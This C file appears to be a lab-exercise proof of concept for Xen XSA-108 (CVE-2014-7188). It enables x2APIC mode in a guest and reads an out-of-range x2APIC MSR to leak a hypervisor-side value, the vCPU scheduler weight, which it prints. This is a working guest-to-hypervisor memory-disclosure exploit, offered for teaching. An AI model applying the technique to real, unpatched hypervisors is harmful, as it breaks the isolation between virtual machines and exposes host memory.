/*
 * xsa-108.c - the attack of exercise 10.3
 *
 * XSA-108 (CVE-2014-7188): there are more numbers of x2APIC registers than there are registers.
 * What the hypervisor knows of this machine and the machine does not is its weight: its share of
 * the CPU.  A sentence with the right number is the proof.
 */
#include "frame.h"

#define APIC_BASE 0x1b
#define APIC_BASE_X2APIC 0x400 /* beside "enabled", 0x800 */
#define X2APIC_FIRST 0x800     /* register n is MSR 0x800 + n */

static inline void x2apic_on(void)
{
	u64 base;

	if (try_rdmsr(APIC_BASE, &base))
		wrmsr(APIC_BASE, base | APIC_BASE_X2APIC);
}

/* What attack() found. */
static inline void say_weight(u32 weight)
{
	say("xsa-108: my weight is ");
	say_number(weight);
	say("\n");
}

static void attack(void)
{
	/* lab: 10.3 */
	/*
	 * struct vcpu: sched.weight lies 928 bytes behind lapic.isr, which is register 0x10; four
	 * bytes of it a register.
	 */
	const u32 weight = X2APIC_FIRST + 0x10 + 928 / 4;
	u64 value;

	x2apic_on();
	if (try_rdmsr(weight, &value))
		say_weight((u32)value);
	else
		say("xsa-108: #GP\n");
	/* lab: end */
}

void guest(void)
{
	wait_for_key();
	say("xsa-108: now\n");
	attack();
	say("xsa-108: I am still here\n");
}
